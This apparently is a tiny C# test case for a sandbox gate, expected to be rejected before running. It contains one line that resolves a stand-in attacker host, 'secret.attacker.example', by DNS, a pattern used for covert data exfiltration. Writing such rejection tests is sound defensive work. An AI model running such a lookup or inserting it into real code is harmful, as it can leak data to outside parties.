// class: network
// expected: rejected
// why: dns addresses; the gate refuses it (COC0003 or a gate check) before anything runs.
var a = await System.Net.Dns.GetHostAddressesAsync("secret.attacker.example");
return 0;
